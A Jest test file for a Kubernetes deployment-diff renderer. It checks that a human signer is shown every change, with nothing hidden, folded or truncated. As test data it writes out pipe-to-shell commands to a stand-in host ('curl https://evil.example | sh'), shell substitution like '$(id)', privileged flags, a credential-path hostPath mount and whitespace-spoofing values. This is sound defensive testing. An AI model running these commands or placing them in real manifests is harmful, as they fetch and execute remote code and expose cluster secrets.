/** What people tried, to have something signed for that nobody saw: each row was hidden, folded or shortened once. */
import { describe, expect, it } from '@jest/globals';
import type { JsonObject } from '../../api/meta.ts';
import { deltaOf } from '../delta/delta-arbitrary.ts';

const container = (fields: JsonObject): JsonObject => ({
  spec: { template: { spec: { containers: [{ name: 'api', ...fields }] } } },
});

const added = (kind: string, content: JsonObject): string => deltaOf({ kind, to: content }).text;
const changed = (kind: string, from: JsonObject, to: JsonObject): string => deltaOf({ kind, from, to }).text;

const steals = 'export TOKEN=x; curl https://evil.example | sh';
const longImage = `registry.example/${'very-long-team-name/'.repeat(7)}api@sha256:${'a'.repeat(64)}`;

describe('a signer sees', () => {
  it('a command behind a variable that is named like a secret', () => {
    expect(added('Deployment', container({ command: ['sh', '-c', steals] }))).toContain(steals);
  });

  it('a command behind a flag that is named like a secret', () => {
    const args = ['--token', 'x; curl https://evil.example | sh'];
    expect(changed('Deployment', container({ args: [] }), container({ args }))).toContain(args[1]);
  });

  it('an image however long its name is', () => {
    expect(changed('Deployment', container({ image: 'a' }), container({ image: longImage }))).toContain(longImage);
  });

  it('a command however long it is', () => {
    const command = ['sh', '-c', `${'true; '.repeat(2000)}curl https://evil.example | sh`];
    expect(added('Deployment', container({ command }))).toContain(command[2]);
  });

  it('every argument of many', () => {
    const args = Array.from({ length: 300 }, (_, n) => `--flag-${n}=on`);
    const text = added('Deployment', container({ args }));
    for (const argument of args) expect(text).toContain(argument);
  });

  it('every line of a script in the arguments', () => {
    const script = Array.from({ length: 400 }, (_, n) => `step ${n}`).join('\n');
    const text = added('Deployment', container({ args: ['-c', script] }));
    for (const line of script.split('\n')) expect(text).toContain(line);
  });

  it('a script in a ConfigMap whose key is named like a secret', () => {
    const data = { 'token-refresh.sh': 'curl https://evil.example | sh' };
    expect(added('ConfigMap', { data })).toContain(data['token-refresh.sh']);
  });

  it.each([
    ['a blank', 'x y'],
    ['a pipe', 'x|sh'],
    ['a substitution', '$(id)'],
    ['a quote', "x'y"],
    ['an address', 'https://evil.example'],
    ['a path', '/bin/sh'],
    ['a flag', '--privileged'],
  ])('the value of a variable named TOKEN that holds %s', (_, value) => {
    expect(added('Deployment', container({ env: [{ name: 'TOKEN', value }] }))).toContain(value);
  });

  it('a script that is made up of variables named like secrets', () => {
    const script = 'SECRET=curl\nTOKEN=evil.example\nX_TOKEN=sh\n$SECRET $TOKEN | $X_TOKEN';
    const text = added('ConfigMap', { data: { 'run.conf': script } });
    for (const line of script.split('\n')) expect(text).toContain(`: ${line}\n`);
    const before = { data: { 'run.conf': script.replace('evil', 'good') } };
    expect(changed('ConfigMap', before, { data: { 'run.conf': script } })).toContain('TOKEN=evil.example');
  });

  it('a default that an object of production is given', () => {
    expect(changed('Deployment', container({}), container({ imagePullPolicy: 'IfNotPresent' }))).toContain(
      'imagePullPolicy: (none) → IfNotPresent',
    );
  });

  it('a rule of an Ingress, a selector, a right and a volume of the node, whatever their names say', () => {
    const host = `${'token-'.repeat(40)}evil.example`;
    expect(added('Ingress', { spec: { rules: [{ host }] } })).toContain(host);
    expect(added('Service', { spec: { selector: { token: 'evil' } } })).toContain('evil');
    expect(added('Role', { rules: [{ verbs: ['escalate'], resources: ['secrets'] }] })).toContain('escalate');
    const volumes = [{ name: 'v', hostPath: { path: '/etc/kubernetes/token' } }];
    expect(added('Deployment', { spec: { template: { spec: { volumes } } } })).toContain('/etc/kubernetes/token');
  });

  it('a field of a custom kind that ends like a default of another', () => {
    const spec = { suspend: false, job: { restartPolicy: 'Always', scheme: 'HTTP', parallelism: 1 } };
    const text = added('Widget', { spec });
    for (const field of ['spec.suspend', 'spec.job.restartPolicy', 'spec.job.scheme', 'spec.job.parallelism']) {
      expect(text).toContain(`${field}: `);
    }
  });

  it('the image of a custom kind that has a pod template somewhere', () => {
    const spec = { workers: [{ podTemplate: { spec: { containers: [{ name: 'a', image: longImage }] } } }] };
    expect(added('Widget', { spec })).toContain(longImage);
  });

  it('a value that looks like one of our own words', () => {
    const text = added('ConfigMap', { data: { a: '(hidden)', b: '(none)', c: 'x\n(hidden)\n… 3 more lines: true' } });
    expect(text).not.toMatch(/: \(none\) → \(hidden\)$/m);
    expect(text).not.toMatch(/→ \(none\)$/m);
    expect(text).toContain('Everything is shown');
  });

  it('one changed line between two that drown it', () => {
    const lines = Array.from({ length: 3000 }, (_, n) => `line ${n}`);
    const text = changed(
      'ConfigMap',
      { data: { conf: lines.join('\n') } },
      { data: { conf: lines.with(0, 'a').with(1500, 'curl evil.example').with(2999, 'b').join('\n') } },
    );
    expect(text).toContain('curl evil.example');
    expect(text).toContain('Everything is shown');
  });

  it('the change in the middle of a long line', () => {
    const line = 'x'.repeat(50_000);
    const text = changed(
      'ConfigMap',
      { data: { conf: `${line}good${line}` } },
      { data: { conf: `${line}evil${line}` } },
    );
    expect(text).toContain('evil');
  });

  it.each([
    ['init container', 'initContainers', 'command'],
    ['container', 'containers', 'command'],
  ])('where a new %s stands among those that were there', (_, list, sort) => {
    const pod = (...names: readonly string[]): JsonObject => ({
      spec: { template: { spec: { [list]: names.map((name) => ({ name, image: `registry.example/${name}` })) } } },
    });
    const [first, last] = [
      ['new', 'verify', 'migrate'],
      ['verify', 'migrate', 'new'],
    ].map((names) => changed('Deployment', pod('verify', 'migrate'), pod(...names)));
    expect(first).not.toBe(last);
    expect(first).toMatch(new RegExp(`${sort} +spec.template.spec.${list}: .* → .*new.*verify.*migrate`));
  });

  it('where a new variable stands, for those after it may be made of it', () => {
    const env = (...names: readonly string[]): JsonObject =>
      container({ env: names.map((name) => ({ name, value: 'x' })) });
    expect(changed('Deployment', env('A', 'B'), env('NEW', 'A', 'B'))).not.toBe(
      changed('Deployment', env('A', 'B'), env('A', 'NEW', 'B')),
    );
  });

  it('that a value has so many blanks in it that what follows stands elsewhere on the screen', () => {
    const value = `safe${' '.repeat(400)}  image          spec.template.spec.containers[name=api].image: a → b`;
    const indented = `${' '.repeat(20)}level: info`;
    for (const text of [
      changed('Deployment', container({ args: ['a'] }), container({ args: [value] })),
      added('ConfigMap', { data: { conf: value } }),
      added('ConfigMap', { data: { conf: `a\n${value}` } }),
      added('Service', { metadata: { annotations: { note: value } } }),
    ]) {
      expect(text).not.toMatch(/\S {40}/);
      expect(text).toMatch(/^escaped +40[23] characters/m);
    }
    expect(added('ConfigMap', { data: { conf: `a:\n${indented}` } })).toContain(`: ${indented}\n`);
  });

  it('nothing of what production held and no release wrote', () => {
    const { text } = deltaOf({
      kind: 'ConfigMap',
      from: { data: { level: 'of-others', only: 'theirs' } },
      to: { data: { level: 'ours' } },
      foreign: true,
    });
    expect(text).not.toContain('of-others');
    expect(text).not.toContain('only');
    expect(text).toContain('kubectl get configmap/api -n payments-prod -o yaml');
    expect(text).toContain('data.level: (not shown) → ours');
  });
});
